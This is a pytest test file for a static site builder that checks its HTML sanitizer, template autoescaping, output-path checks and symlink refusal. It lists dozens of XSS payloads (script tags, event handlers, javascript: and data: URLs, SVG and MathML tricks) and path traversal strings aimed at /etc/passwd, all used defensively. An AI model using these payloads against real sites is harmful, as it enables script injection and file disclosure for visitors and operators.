"""No text from an article, a briefing or the knowledge base ever runs as script
in a reader's browser, and no name from content can write outside the output folder.

Raw HTML in markdown goes through the nh3 allowlist; every frontmatter and
knowledge-base value goes through Jinja's autoescaping. The payloads below are
the usual ways round naive filters (event handlers, ``javascript:`` and
``data:`` URLs, SVG and MathML tricks, entity-encoded schemes, template syntax).
"""

from __future__ import annotations

import json
import os
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from site_builder.content.config import SiteConfig
from site_builder.errors import Problem
from site_builder.render.markdown_body import is_local_url, render_markdown, sanitize
from site_builder.serve.server import render_error_page
from site_builder.render.templating import make_environment
from site_builder.output.write import safe_join, staged_path

from .helpers import Project, built_pages, find_problem, policy_violations

BASE_URL = "https://fixture.example.org/"

BODY_PAYLOADS = [
    "<script>alert('body-1')</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert('body-2')>",
    "<img src=\"https://evil.example/pixel.gif\" alt=tracker>",
    "![tracker](https://evil.example/pixel2.gif)",
    "<img src=\"//evil.example/pixel3.gif\">",
    "<img src=\"/\\evil.example/pixel4.gif\">",
    "<img srcset=\"https://evil.example/a.png 2x\">",
    "[click](javascript:alert('body-3'))",
    "[click](JaVaScRiPt:alert('body-4'))",
    "<a href=\"jav&#x09;ascript:alert('body-5')\">x</a>",
    "<a href=\"&#106;avascript:alert('body-6')\">x</a>",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<a href=\"vbscript:msgbox('body-7')\">x</a>",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<iframe srcdoc=\"<script>alert('body-8')</script>\"></iframe>",
    "<style>body { display: none }</style>",
    "<p style=\"background:url(javascript:alert('body-9'))\">styled</p>",
    "<svg onload=alert('body-10')><circle r=5 /></svg>",
    "<svg><script>alert('body-11')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('body-12')\"><text x=0 y=10>x</text></a></svg>",
    "<svg><animate attributeName=href to=javascript:alert('body-13') /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('body-14')>",
    "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">",
    "<form action=\"https://evil.example/\"><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<details open ontoggle=alert('body-15')><summary>x</summary></details>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('body-16')>\"></noscript>",
    "<template><script>alert('body-17')</script></template>",
    "<div onmouseover=\"alert('body-18')\">hover</div>",
    "<a href=\"https://example.org/\" onclick=\"alert('body-19')\" target=_blank>ok link</a>",
    "<video src=x onerror=alert('body-20') poster=https://evil.example/p.png></video>",
    "<h2 id=\"x\" onfocus=\"alert('body-21')\" tabindex=1>Heading</h2>",
    "{{ 1234 * 5 }} {% raw %}x{% endraw %}",
    "<scr<script>ipt>alert('body-22')</scr</script>ipt>",
    "<<script>script>alert('body-23')<</script>/script>",
    "<img src=`x` onerror=alert('body-24')>",
    "<!--<script>alert('body-25')</script>-->",
    "<![CDATA[<script>alert('body-26')</script>]]>",
]

# Every text field of a briefing carries the same payload; Jinja must escape it everywhere.
FIELD_PAYLOAD = "\"'><script>alert('field')</script><img src=x onerror=alert('field')>{{ 1234 * 5 }}</title></script>"


def yaml_string(text: str) -> str:
    return json.dumps(text)  # a JSON string is a YAML double-quoted scalar


def assert_safe_site(output: Path) -> None:
    """No page needs anything the Content-Security-Policy forbids, and no template ran content."""
    pages = built_pages(output)
    assert pages
    for page in pages:
        text = page.read_text(encoding="utf-8")
        problems, data_blocks = policy_violations(text, BASE_URL)
        assert problems == [], f"{page.relative_to(output)}: {problems}"
        for block in data_blocks:
            json.loads(block)  # a data block is JSON, never a way out of the <script> element
            assert "</" not in block.lower() and "<!--" not in block
        assert "6170" not in text, f"{page.relative_to(output)} evaluated template syntax from content"
    for feed in output.rglob("*.xml"):
        ET.fromstring(feed.read_bytes())  # feeds and sitemap stay well-formed XML


def test_raw_html_in_markdown_is_sanitized(project: Project) -> None:
    # An unclosed <style> swallows what follows it, so the MathML payload goes last.
    ordered = sorted(BODY_PAYLOADS, key=lambda payload: payload.startswith("<math>"))
    body = "\n\n".join(f"Paragraph {i}.\n\n{payload}" for i, payload in enumerate(ordered))
    project.write("briefings/payloads.md", "---\ntitle: Payloads\ndate: 2025-09-01\nsummary: Payloads.\n"
                  "countries: [Czechia]\ntargets: [Czechia]\nno_attribution: None named.\n"
                  "sources: [{publisher: P, title: T, url: 'https://p.example/'}]\n---\n" + body + "\n\nCzechia is linked.\n")
    project.write("pages/payload-page.md", "---\ntitle: Payload page\n---\n" + body)
    found = project.check()  # pictures from elsewhere are only warned about: the page leaves them out
    assert [p for p in found if p.severity == "error"] == []
    assert all("left out of the page" in p.message for p in found)
    project.build()
    assert_safe_site(project.output)
    page = (project.output / "briefings" / "payloads" / "index.html").read_text(encoding="utf-8")
    assert all(f"Paragraph {i}." in page for i in range(len(ordered))), "sanitizing must keep the text"
    assert "ok link" in page and "styled" in page and 'href="https://example.org/"' in page
    for marker in ("pixel.gif", "pixel2.gif", "pixel3.gif", "pixel4.gif", "x.js", "x.css", "x.swf"):
        assert f"evil.example/{marker}\"" not in page


@pytest.mark.parametrize("payload", BODY_PAYLOADS)
def test_each_payload_alone_is_harmless(payload: str) -> None:
    html = render_markdown(f"Before.\n\n{payload}\n\nAfter.")
    problems, _ = policy_violations(html, BASE_URL)
    assert problems == [], (payload, html)
    lowered = html.lower()
    assert "<script" not in lowered and "<svg" not in lowered and "<iframe" not in lowered
    assert not any(f'{attr}="{scheme}' in lowered for attr in ("href", "src") for scheme in ("javascript:", "data:"))


def test_frontmatter_and_knowledge_base_text_is_escaped(project: Project) -> None:
    p = yaml_string(FIELD_PAYLOAD)
    project.write("briefings/fields.md", f"""---
title: {p}
date: 2025-09-02
summary: {p}
countries: [Czechia]
targets: [Czechia]
actors: [{yaml_string("Evil <script>alert('actor')</script> Org")}]
tags: [{p}, "../../../../etc/passwd", "<b>bold</b>"]
sources:
  - publisher: {p}
    title: {p}
    author: {p}
    url: "https://example.org/a?q=<script>alert('url')</script>&x=\\"'"
events:
  - date: 2025-09-01
    title: {p}
    source: 1
    locator: {p}
attribution:
  - actor: {yaml_string("Evil <script>alert('actor')</script> Org")}
    confidence: alleged
    claimed_by: {p}
    note: {p}
    source: 1
    locator: {p}
  - actor: {yaml_string("Evil <script>alert('actor')</script> Org")}
    confidence: disputed
    claimed_by: {p}
    basis: {p}
    denial: true
    source: 1
---
Evil <script>alert('actor')</script> Org is named in the body, and so is Czechia.
""")
    actors = project.read("entities/actors.yaml")
    project.write("entities/actors.yaml", actors + f"""
- name: {yaml_string("Evil <script>alert('actor')</script> Org")}
  type: network
  aliases: [{yaml_string("<img src=x onerror=alert('alias')>")}]
  description: {p}
""")
    project.edit("entities/countries.yaml", "description: Central European country.", f"description: {p}")
    project.write("site.yaml", f"title: {p}\ndescription: {p}\nbase_url: {BASE_URL}\nauthor: {p}\n")
    project.write("pages/fields.md", f"---\ntitle: {p}\ndescription: {p}\n---\nText\n")
    assert project.check() == []
    project.build()
    assert_safe_site(project.output)
    page = (project.output / "briefings" / "fields" / "index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(" in page, "the payload is shown as text"
    assert "<script>alert(" not in page
    for file in project.output.rglob("*"):
        assert not file.is_symlink()
        assert Path(os.path.realpath(file)).is_relative_to(project.output.resolve())
    assert not (project.root / "etc").exists()
    data = json.loads((project.output / "briefings.json").read_text(encoding="utf-8"))
    assert any(b["title"] == FIELD_PAYLOAD for b in data["briefings"]), "data export keeps the text as it was written"


def test_autoescaping_is_on_everywhere(project: Project) -> None:
    env = make_environment([project.templates], SiteConfig(), {})
    for name in env.list_templates():
        assert env.select_autoescape(name) if callable(env.autoescape) else env.autoescape is True, name
    assert env.from_string("{{ x }}").render(x="<b>") == "&lt;b&gt;"
    page = render_error_page([Problem("content/<b>x</b>.md", "<script>alert(1)</script>", 3, 1, "<img src=x onerror=1>")])
    assert b"<script>alert" not in page and b"<img src=x" not in page and b"&lt;script&gt;" in page


@pytest.mark.parametrize("rel", ["../escape.html", "/etc/passwd", "a/../../escape.html", "..", "a/../../../x",
                                 "\\..\\x"])
def test_output_paths_cannot_leave_the_output_folder(tmp_path: Path, rel: str) -> None:
    with pytest.raises(ValueError):
        safe_join(tmp_path / "out", rel)
    with pytest.raises(ValueError):  # the check for folders the builder made (staging, search scratch)
        staged_path(rel)


def test_slugs_from_content_cannot_be_paths(project: Project) -> None:
    project.write("briefings/zz-path.md", "---\ntitle: Path\ndate: 2025-09-01\nsummary: S\nslug: ../../outside\n---\n")
    project.write("pages/zz-abs.md", "---\ntitle: Abs\nslug: /etc/passwd\n---\n")
    project.write("entities/platforms.yaml", project.read("entities/platforms.yaml")
                  + "\n- name: Sneaky\n  slug: ../../sneaky\n")
    problems = project.check()
    find_problem(problems, "briefings/zz-path.md", 5, "slug '../../outside' may only hold")
    find_problem(problems, "pages/zz-abs.md", 3, "slug '/etc/passwd' may only hold")
    find_problem(problems, "entities/platforms.yaml", 12, "slug '../../sneaky' may only hold")


def test_names_that_look_like_paths_make_safe_slugs(project: Project) -> None:
    """Tags and file names are slugified: '..', '/etc' and friends become plain folder names."""
    project.write("briefings/...md", "---\ntitle: Dots\ndate: 2025-09-01\nsummary: S\ntags: [\"..\", \"/etc/passwd\", "
                  "\"C:\\\\Windows\", \"~root\"]\n---\n")
    assert project.check() == []
    project.build()
    for file in project.output.rglob("*"):
        assert Path(os.path.realpath(file)).is_relative_to(project.output.resolve()), file
    assert not (project.root / "etc").exists() and not (project.output.parent / "passwd").exists()


def test_symlinks_out_of_content_are_refused(project: Project, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    secret = outside / "secret.md"
    secret.write_text("---\ntitle: Secret\ndate: 2025-09-01\nsummary: Secret notes\n---\nSECRET BODY\n")
    (outside / "actors.yaml").write_text("- name: Secret actor\n  type: person\n")
    (outside / "nested").mkdir()
    (outside / "nested" / "leak.md").write_text(secret.read_text())
    os.symlink(secret, project.path("briefings/linked.md"))
    os.symlink("/etc/passwd", project.path("briefings/passwd.md"))
    os.symlink(outside / "nested", project.path("briefings/folder"))
    project.path("entities/actors.yaml").unlink()
    os.symlink(outside / "actors.yaml", project.path("entities/actors.yaml"))
    problems = project.check()
    for name in ("briefings/linked.md", "briefings/passwd.md", "entities/actors.yaml"):
        find_problem(problems, name, 1, "link to a place outside the content folder")
    assert not any("leak.md" in p.path and "outside" not in p.message for p in problems)
    run = project.cli("build")
    assert run.returncode == 1 and "link to a place outside the content folder" in run.stderr
    assert "SECRET BODY" not in run.stderr + run.stdout
    for page in project.output.rglob("*.html"):
        assert "SECRET BODY" not in page.read_text(encoding="utf-8")


def test_symlinks_inside_content_are_fine(project: Project) -> None:
    os.symlink(project.path("briefings/moldova-vote-buying.md"), project.path("briefings/zz-alias.md"))
    problems = project.check()
    assert [p for p in problems if "outside" in p.message] == []
    find_problem(problems, "briefings/zz-alias.md", 2, "is also the title of")


@pytest.mark.parametrize("url, local", [
    ("/img/a.png", True), ("img/a.png", True), ("../a.png?x=1:2", True), ("#top", True),
    ("https://evil.example/a.png", False), ("//evil.example/a.png", False), ("/\\evil.example/a.png", False),
    ("\\\\evil.example\\a.png", False), (" https://evil.example/", False), ("\thttps://evil.example/", False),
    ("ht\ttps://evil.example/", False), ("javascript:alert(1)", False), ("data:image/png;base64,AA", False),
    ("\x01//evil.example/", False), ("HTTPS://EVIL.EXAMPLE/", False),
])
def test_images_must_be_local(url: str, local: bool) -> None:
    assert is_local_url(url) is local
    html = sanitize(f'<img src="{url}" alt="a">')
    assert ("src=" in html) is local, html


@pytest.mark.parametrize("title", ['Quote " and colon: here', "Path ../../etc/passwd", "<script>alert(1)</script> vote",
                                   "Emoji 🙂 and Chișinău", "# not a comment", "- not a list", "{{ 1234 * 5 }}"])
def test_new_briefings_are_valid_and_stay_in_the_content_folder(project: Project, title: str) -> None:
    import datetime as dt

    from site_builder.content.scaffold import new_briefing

    path = new_briefing(project.content, title, today=dt.date(2025, 12, 1))
    assert path.resolve().parent == project.path("briefings").resolve()
    assert project.check() == []
    project.build(drafts=True)
    assert_safe_site(project.output)
